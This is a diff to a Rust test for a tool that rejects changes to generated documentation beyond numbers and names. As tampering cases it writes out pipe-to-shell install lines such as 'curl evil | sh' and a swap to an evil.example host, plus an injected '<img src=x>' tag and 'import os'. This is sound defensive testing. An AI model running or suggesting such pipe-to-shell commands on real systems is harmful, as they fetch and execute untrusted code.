@@ -147,14 +147,14 @@ fn sealed(text: &str) -> String {
 
 #[test]
 fn what_a_document_or_a_generated_file_says_besides_its_values_stays() {
-    let page = "# Library\n\nInstall it with `curl https://molt.example/i | sh`, see [the tour](docs/tour.md).\n\nThe union has 312 top-level names.\n";
+    let page = "# Library\n\nInstall it with `curl https://molt.example/i | sh`, see [the tour](docs/tour.md).\n\n```sh\npip install molt\n```\n\nThe union has 312 top-level names.\n";
     let agents = "# For agents\n\nRun the tests before each commit.\n\nThe union has 312 top-level names.\n";
     let settings = b"[docs.files.\"src/facts.py\"]\ntemplate = \"tools/t.j2\"\n[docs.files.\"tools/run.sh\"]\ntemplate = \"tools/t.j2\"\n[docs.files.\"data/n.json\"]\ntemplate = \"tools/t.j2\"\n";
     let (it, _) = proposed(&[
         ("docs/page.md", page.as_bytes()),
         ("AGENTS.md", agents.as_bytes()),
         ("tools/t.j2", b"TOP = {{ union.top_level }}\n"),
-        ("src/facts.py", b"TOP = 312\nNAMES = [\"this\"]\n"),
+        ("src/facts.py", b"# of CPython 3.15.0b4\nTOP = 312\nNAMES = [\"this\"]\n"),
         ("tools/run.sh", b"count 312\n"),
         ("data/n.json", b"{}\n"),
         ("docs/bindings.toml", b"[[bind]]\ndoc = \"AGENTS.md\"\nphrase = \"union has {union.top-level} top-level\"\n"),
@@ -164,6 +164,8 @@ fn what_a_document_or_a_generated_file_says_besides_its_values_stays() {
     for (path, text, words) in [
         ("docs/page.md", page.replace("molt.example", "evil.example"), no_mark),
         ("docs/page.md", page.replace("docs/tour.md", "docs/other.md"), no_mark),
+        ("docs/page.md", page.replace("pip install molt", "curl evil | sh"), no_mark),
+        ("docs/page.md", page.to_owned() + "\nSee www.evil.example.\n", no_mark),
         ("docs/page.md", page.to_owned() + "\nCloses #7\n", no_mark),
         ("docs/page.md", page.to_owned() + "\n@everyone\n", no_mark),
         ("docs/page.md", page.to_owned() + "\n<img src=x>\n", no_mark),
@@ -174,8 +176,16 @@ fn what_a_document_or_a_generated_file_says_besides_its_values_stays() {
             agents.replace("the tests", "nothing"),
             "words that are neither its own nor a template's: nothing",
         ),
-        ("src/facts.py", "import os\nTOP = 312\n".to_owned(), "would change in more than numbers and names"),
-        ("src/facts.py", "TOP = 312; NAMES = [\"this\"]\n".to_owned(), "would change in more than numbers and names"),
+        (
+            "src/facts.py",
+            "import os\n# of CPython 3.15.0b4\nTOP = 312\nNAMES = [\"this\"]\n".to_owned(),
+            "would change in more than numbers and names",
+        ),
+        (
+            "src/facts.py",
+            "# of CPython 3.15.0b4 TOP = 312\nNAMES = [\"this\"]\n".to_owned(),
+            "would change in more than numbers and names",
+        ),
         ("tools/run.sh", "count 312 | sh\n".to_owned(), "would change in more than numbers and names"),
     ] {
         with(&it, path, text.as_bytes());
@@ -185,7 +195,7 @@ fn what_a_document_or_a_generated_file_says_besides_its_values_stays() {
     for (path, text) in [
         ("docs/page.md", page.replace("312", "320")),
         ("AGENTS.md", agents.replace("312", "320")),
-        ("src/facts.py", "TOP = 320\nNAMES = [\"this\", \"that\"]\n".to_owned()),
+        ("src/facts.py", "# of CPython 3.15.0rc1\nTOP = 320\nNAMES = [\"this\", \"that\"]\n".to_owned()),
         ("tools/run.sh", "count 320\n".to_owned()),
         ("data/n.json", "{\"top\": 320}\n".to_owned()),
     ] {
